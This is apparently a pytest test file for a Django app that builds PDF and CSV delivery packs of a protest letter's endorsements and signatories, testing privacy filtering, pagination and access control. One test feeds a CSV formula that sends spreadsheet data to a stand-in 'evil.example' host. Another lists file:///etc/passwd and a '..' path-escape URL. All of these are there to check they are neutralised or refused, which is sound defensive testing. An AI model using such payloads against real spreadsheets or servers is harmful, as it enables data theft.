"""The delivery pack: a PDF and a streamed CSV of a letter's endorsements and
public signatories, for its authors' editors and its campaign's coordinators."""

from __future__ import annotations

import csv
import datetime
import io
import re
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from habeas.coalition.models import Organisation, Role
from habeas.letters import pack
from habeas.letters.models import (
    Endorsement,
    Letter,
    LetterText,
    Signature,
    SignatureCount,
    SignatureInvalidation,
)
from habeas.letters.queries import pack as queries
from tests.factories import CampaignFactory, OrganisationFactory, UserFactory, grant, sign_in

pytestmark = pytest.mark.django_db

URDU_TITLE = "سیاسی قیدیوں کو رہا کرو"
URDU_BODY = "ہم مطالبہ کرتے ہیں کہ سب قیدی رہا کیے جائیں"
EMAIL = re.compile(r"[\w.+-]+@[\w-]+\.[\w.]+")
T0 = datetime.datetime(2026, 5, 30, 12, 0, tzinfo=datetime.UTC)


def make_letter(status: str = Letter.Status.OPEN) -> tuple[Letter, Organisation]:
    author = OrganisationFactory()
    user = UserFactory()
    letter = Letter.objects.create(
        campaign=CampaignFactory(), slug="free-them", created_by=user, status=status
    )
    letter.authors.add(author)
    LetterText.objects.create(
        letter=letter,
        language="en",
        title="Free the political prisoners",
        addressees="The Prime Minister of Pakistan",
        body="We demand their release.",
        body_html="<p>We demand their release.</p>",
    )
    LetterText.objects.create(
        letter=letter,
        language="ur",
        title=URDU_TITLE,
        addressees="وزیر اعظم پاکستان",
        body=URDU_BODY,
        body_html=f"<p>{URDU_BODY}</p>",
    )
    return letter, author


def sign(letter: Letter, n: int, **fields: Any) -> Signature:
    values: dict[str, Any] = {
        "name": f"Signer {n}",
        "email": f"signer{n}@example.net",
        "email_key": f"key-{n}",
        "country": "GB",
        "city": "London",
        "affiliation": "",
        "show_name": True,
        "language": "en",
        "status": Signature.Status.CONFIRMED,
        "confirmed_at": T0 + datetime.timedelta(minutes=n),
        "counted": True,
    }
    values.update(fields)
    return Signature.objects.create(letter=letter, **values)


def editor_of(organisation: Organisation) -> Any:
    user = UserFactory()
    grant(user, Role.ORG_EDITOR, organisation=organisation)
    return user


def coordinator_of(campaign: Any) -> Any:
    user = UserFactory()
    grant(user, Role.COORDINATOR, campaign=campaign)
    return user


def document_text(letter: Letter, **kwargs: Any) -> str:
    """Every piece of text WeasyPrint laid out, in document order."""
    document = pack.pack_document(letter, **kwargs)
    return "\n".join(
        box.text
        for page in document.pages
        for box in page._page_box.descendants()
        if hasattr(box, "text")
    )


def csv_rows(response: Any) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


# --- The PDF ------------------------------------------------------------------


def test_the_pdf_is_a_pdf_named_after_the_letter(client: Client) -> None:
    """The authors' editor gets a PDF attachment named after the letter's address."""
    letter, author = make_letter()
    sign_in(client, editor_of(author))
    response = client.get(f"/letters/{letter.slug}/pack.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    assert response["Content-Disposition"] == 'attachment; filename="free-them-delivery-pack.pdf"'
    assert "no-cache" in response["Cache-Control"]


def test_the_pdf_carries_both_texts_with_urdu_right_to_left_in_the_bundled_font() -> None:
    """The English and Urdu texts and addressees are laid out; the Urdu ones right
    to left, in Noto Nastaliq Urdu, which is embedded in the PDF."""
    letter, _author = make_letter()
    document = pack.pack_document(letter)
    urdu = [
        box
        for page in document.pages
        for box in page._page_box.descendants()
        if getattr(box, "text", "") in (URDU_TITLE, URDU_BODY)
    ]
    assert {box.text for box in urdu} == {URDU_TITLE, URDU_BODY}
    for box in urdu:
        assert box.style["direction"] == "rtl"
        assert box.style["font_family"][0] == "Noto Nastaliq Urdu"
    text = document_text(letter)
    assert "Free the political prisoners" in text
    assert "The Prime Minister of Pakistan" in text
    assert "وزیر اعظم پاکستان" in text
    assert document.write_pdf().startswith(b"%PDF-")
    fonts = [font.family for font in document.fonts.values()]
    assert any("Nastaliq" in family for family in fonts), fonts


def test_the_pdf_lists_endorsements_by_kind_unions_first_and_only_verified() -> None:
    """Verified endorsements show, grouped by kind with unions first; pending,
    rejected and withdrawn ones do not, nor any contact address."""
    letter, _author = make_letter()
    for name, kind, status in [
        ("Party One", Organisation.Kind.PARTY, Endorsement.Status.VERIFIED),
        ("Dock Workers Union", Organisation.Kind.UNION, Endorsement.Status.VERIFIED),
        ("Pending Group", Organisation.Kind.NGO, Endorsement.Status.PENDING),
        ("Rejected Group", Organisation.Kind.NGO, Endorsement.Status.REJECTED),
        ("Withdrawn Group", Organisation.Kind.NGO, Endorsement.Status.WITHDRAWN),
    ]:
        Endorsement.objects.create(
            letter=letter,
            name=name,
            kind=kind,
            country="GB",
            status=status,
            contact_email="secretary@union.example",
        )
    text = document_text(letter)
    assert text.index("Trade union") < text.index("Dock Workers Union") < text.index("Party")
    assert text.index("Dock Workers Union") < text.index("Party One")
    for absent in ("Pending Group", "Rejected Group", "Withdrawn Group", "secretary@"):
        assert absent not in text


def test_the_pdf_shows_only_named_signatures_that_count_and_no_email() -> None:
    """Only confirmed, unsuspected, valid signatures whose signers chose to be
    named appear, with name, city, country and affiliation; no e-mail address."""
    letter, author = make_letter()
    batch = SignatureInvalidation.objects.create(
        letter=letter, reason="flood", created_by=UserFactory()
    )
    sign(letter, 1, name="Shown Signer", affiliation="Dock branch")
    sign(letter, 2, name="Hidden Name", show_name=False)
    sign(letter, 3, name="Suspect Signer", suspect=Signature.Suspect.IP_RATE)
    sign(letter, 4, name="Invalidated Signer", invalidation=batch)
    sign(letter, 5, name="Pending Signer", status=Signature.Status.PENDING, confirmed_at=None)
    sign(letter, 6, name="Withdrawn Signer", status=Signature.Status.WITHDRAWN)
    sign(make_other_letter(author), 7, name="Other Letter Signer")
    html = pack.pack_html(letter)
    text = document_text(letter)
    for rendered in (html, text):
        assert "Shown Signer" in rendered
        assert "Dock branch" in rendered
        assert not EMAIL.search(rendered)
        for absent in ("Hidden Name", "Suspect", "Invalidated", "Pending", "Withdrawn", "Other"):
            assert absent not in rendered


def make_other_letter(author: Organisation) -> Letter:
    other = Letter.objects.create(
        campaign=CampaignFactory(), slug="other", created_by=UserFactory(), status="OPEN"
    )
    other.authors.add(author)
    return other


def test_the_pdf_counts_people_organisations_and_countries() -> None:
    """The counts are those the tally published (people, by country, most first,
    with thousands separated) and the number of verified endorsements."""
    letter, _author = make_letter()
    SignatureCount.objects.create(letter=letter, country="GB", day=T0.date(), signatures=1207)
    SignatureCount.objects.create(letter=letter, country="PK", day=T0.date(), signatures=30)
    SignatureCount.objects.create(
        letter=letter, country="PK", day=T0.date() + datetime.timedelta(days=1), signatures=5
    )
    Endorsement.objects.create(letter=letter, name="U", status=Endorsement.Status.VERIFIED)
    counts = queries.pack_counts(letter)
    assert counts.people == 1242
    assert counts.organisations == 1
    assert counts.by_country == [("GB", 1207), ("PK", 35)]
    text = document_text(letter)
    assert "1 organisation" in text
    assert "1,242 people" in text
    assert "United Kingdom" in text


def test_the_pdf_lists_signatories_up_to_its_cap_and_points_to_the_csv() -> None:
    """Past the cap, the PDF lists the first signatories by confirmation and says
    the full list is in the CSV."""
    letter, _author = make_letter()
    for n in range(3):
        sign(letter, n)
    text = document_text(letter, limit=2)
    assert "Signer 0" in text
    assert "Signer 1" in text
    assert "Signer 2" not in text
    assert "The first 2 of 3 named signatories" in " ".join(text.split())
    assert "CSV" in text
    assert "The first" not in document_text(letter, limit=3)


def test_signatories_come_in_confirmation_order_then_id_across_keyset_pages(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Signatories are ordered by confirmation time, ties by id, however the
    keyset pages fall, and a limit stops the reading."""
    monkeypatch.setattr(queries, "CHUNK", 2)
    letter, _author = make_letter()
    same = T0 + datetime.timedelta(hours=1)
    made = [
        sign(letter, 5, confirmed_at=same),
        sign(letter, 3, confirmed_at=same),
        sign(letter, 9, confirmed_at=T0),
        sign(letter, 1, confirmed_at=same),
        sign(letter, 7, confirmed_at=T0 + datetime.timedelta(hours=2)),
    ]
    expected = [s.name for s in sorted(made, key=lambda s: (s.confirmed_at, s.pk))]
    assert [s.name for s in queries.pack_signatories(letter)] == expected
    assert [s.name for s in queries.pack_signatories(letter, limit=3)] == expected[:3]
    assert list(queries.pack_signatories(letter, limit=0)) == []


# --- The CSV ------------------------------------------------------------------


def test_the_csv_has_endorsements_then_named_signatories_and_no_email(client: Client) -> None:
    """The CSV has a header, the verified endorsements (unions first), then the
    public signatories in order; no hidden, suspect or pending one, no e-mail."""
    letter, author = make_letter()
    Endorsement.objects.create(
        letter=letter,
        name="Party One",
        kind=Organisation.Kind.PARTY,
        country="PK",
        status=Endorsement.Status.VERIFIED,
    )
    Endorsement.objects.create(
        letter=letter,
        name="Dock Workers Union",
        kind=Organisation.Kind.UNION,
        country="GB",
        signatory="A. Secretary",
        signatory_role="General secretary",
        status=Endorsement.Status.VERIFIED,
        contact_email="secretary@union.example",
    )
    Endorsement.objects.create(letter=letter, name="Pending", status=Endorsement.Status.PENDING)
    sign(letter, 2, name="Second", city="Berlin", country="DE", affiliation="IG Metall")
    sign(letter, 1, name="First")
    sign(letter, 3, name="Hidden", show_name=False)
    sign(letter, 4, name="Suspect", suspect=Signature.Suspect.DISPOSABLE)
    sign(letter, 5, name="Pending", status=Signature.Status.PENDING, confirmed_at=None)
    sign_in(client, editor_of(author))
    response = client.get(f"/letters/{letter.slug}/pack.csv")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="free-them-delivery-pack.csv"'
    assert csv_rows(response) == [
        pack.CSV_COLUMNS,
        [
            "organisation",
            "Dock Workers Union",
            "UNION",
            "GB",
            "",
            "",
            "A. Secretary",
            "General secretary",
        ],
        ["organisation", "Party One", "PARTY", "PK", "", "", "", ""],
        ["person", "First", "", "GB", "London", "", "", ""],
        ["person", "Second", "", "DE", "Berlin", "IG Metall", "", ""],
    ]


def test_the_csv_neutralises_formulas(client: Client) -> None:
    """A cell a spreadsheet would run as a formula starts with a quote instead."""
    letter, author = make_letter()
    sign(
        letter,
        1,
        name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        city="+1",
        affiliation="@SUM(A1)",
    )
    Endorsement.objects.create(
        letter=letter, name="-2+3", signatory="\t=1", status=Endorsement.Status.VERIFIED
    )
    sign_in(client, editor_of(author))
    rows = csv_rows(client.get(f"/letters/{letter.slug}/pack.csv"))
    assert rows[1][1] == "'-2+3"
    assert rows[1][6] == "'\t=1"
    assert rows[2][1] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert rows[2][4] == "'+1"
    assert rows[2][5] == "'@SUM(A1)"


def test_the_csv_streams_in_chunks_read_a_keyset_page_at_a_time(
    client: Client, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CSV is a streaming response: signatures are read a page of CHUNK rows
    per query, each page seeking past the last by an indexable bound, while lines
    go out a few at a time, never the whole list at once."""
    monkeypatch.setattr(queries, "CHUNK", 3)
    monkeypatch.setattr(pack, "CSV_LINES_PER_CHUNK", 2)
    letter, author = make_letter()
    for n in range(7):
        sign(letter, n)
    sign_in(client, editor_of(author))
    response: Any = client.get(f"/letters/{letter.slug}/pack.csv")
    assert response.streaming
    with CaptureQueriesContext(connection) as queries_run:
        chunks = [bytes(chunk) for chunk in response.streaming_content]
    signature_reads = [
        q["sql"] for q in queries_run.captured_queries if "letters_signature" in q["sql"]
    ]
    # 7 rows in pages of 3: 3 + 3 + 1, the last page short, so no fourth query.
    assert len(signature_reads) == 3
    assert all("LIMIT 3" in sql for sql in signature_reads)
    # Each later page seeks to its start by a bound an index can use.
    assert all('"confirmed_at" >=' in sql for sql in signature_reads[1:])
    # The header rides with the first two rows; then two rows a chunk, then the rest.
    assert len(chunks) == 4
    assert chunks[-1] == b"person,Signer 6,,GB,London,,,\r\n"
    assert len(list(csv.reader(io.StringIO(b"".join(chunks).decode())))) == 8


# --- Who may take the pack ----------------------------------------------------


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_anonymous_visitors_are_refused(client: Client, suffix: str) -> None:
    """Someone not signed in gets no pack."""
    letter, _author = make_letter()
    sign(letter, 1)
    response = client.get(f"/letters/{letter.slug}/{suffix}")
    assert response.status_code == 403
    assert b"Signer 1" not in response.content


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_an_editor_of_another_organisation_is_refused(client: Client, suffix: str) -> None:
    """An editor of an organisation that did not write the letter gets no pack."""
    letter, _author = make_letter()
    sign_in(client, editor_of(OrganisationFactory()))
    assert client.get(f"/letters/{letter.slug}/{suffix}").status_code == 403


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_a_coordinator_of_another_campaign_is_refused(client: Client, suffix: str) -> None:
    """A coordinator of another campaign gets no pack."""
    letter, _author = make_letter()
    sign_in(client, coordinator_of(CampaignFactory()))
    assert client.get(f"/letters/{letter.slug}/{suffix}").status_code == 403


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_the_campaigns_coordinator_gets_the_pack(client: Client, suffix: str) -> None:
    """A coordinator of the letter's campaign may take the pack, as its authors may."""
    letter, _author = make_letter(status=Letter.Status.CLOSED)
    sign_in(client, coordinator_of(letter.campaign))
    assert client.get(f"/letters/{letter.slug}/{suffix}").status_code == 200


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_a_draft_or_unknown_letter_has_no_pack(client: Client, suffix: str) -> None:
    """A draft's pack is not found, even for its authors; nor is an unknown letter's."""
    letter, author = make_letter(status=Letter.Status.DRAFT)
    sign_in(client, editor_of(author))
    assert client.get(f"/letters/{letter.slug}/{suffix}").status_code == 404
    assert client.get(f"/letters/no-such-letter/{suffix}").status_code == 404


@pytest.mark.parametrize("suffix", ["pack.pdf", "pack.csv"])
def test_the_pack_answers_only_reads(client: Client, suffix: str) -> None:
    """A POST to a pack's address is refused and changes nothing."""
    letter, author = make_letter()
    sign_in(client, editor_of(author))
    assert client.post(f"/letters/{letter.slug}/{suffix}").status_code == 405


# --- The PDF reads only bundled files --------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://example.org/logo.png",
        "https://example.org/font.woff2",
        "ftp://example.org/x",
        "data:text/css,body{}",
        "file:///etc/passwd",
        "file://example.org/habeas/fonts.css",
        "relative/habeas/fonts.css",
    ],
)
def test_the_url_fetcher_refuses_anything_but_bundled_static_files(url: str) -> None:
    """The PDF's URL fetcher refuses the network and every file outside the
    bundled static files."""
    with pytest.raises(ValueError, match="bundled static files"):
        pack.StaticFilesOnly()(url)


def test_the_url_fetcher_refuses_a_path_that_climbs_out_of_static() -> None:
    """A file URL that climbs out of the static directory with .. is refused."""
    escape = pack.static_root().as_uri() + "/../../settings.py"
    with pytest.raises(ValueError, match="bundled static files"):
        pack.StaticFilesOnly()(escape)


def test_the_url_fetcher_refuses_a_static_path_on_another_host() -> None:
    """A file URL naming another host is refused even if its path is a static file."""
    url = "file://example.org" + str(pack.static_root() / "habeas" / "fonts.css")
    with pytest.raises(ValueError, match="bundled static files"):
        pack.StaticFilesOnly()(url)


def test_the_url_fetcher_serves_the_bundled_urdu_font() -> None:
    """The bundled Nastaliq font is served to WeasyPrint, as a font."""
    url = (
        pack.static_root().as_uri()
        + "/vendor/noto-nastaliq-urdu/files/noto-nastaliq-urdu-arabic-400-normal.woff2"
    )
    response = pack.StaticFilesOnly()(url)
    assert response.content_type == "font/woff2"
    assert response.read(4) == b"wOF2"


def test_a_remote_image_in_a_letter_is_never_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    """An image in a letter's text that points elsewhere is skipped, not fetched,
    and the PDF is still made."""
    letter, _author = make_letter()
    LetterText.objects.filter(letter=letter, language="en").update(
        body_html='<p>Look <img src="http://127.0.0.1:9/tracker.png"></p>'
    )
    asked: list[str] = []
    refuse = pack.StaticFilesOnly.fetch

    def spy(self: Any, url: str, headers: Any = None) -> Any:
        asked.append(url)
        return refuse(self, url, headers)

    monkeypatch.setattr(pack.StaticFilesOnly, "fetch", spy)
    assert pack.pack_pdf(letter).startswith(b"%PDF-")
    assert "http://127.0.0.1:9/tracker.png" in asked
    assert timezone.now()  # rendering did not hang on the refused address
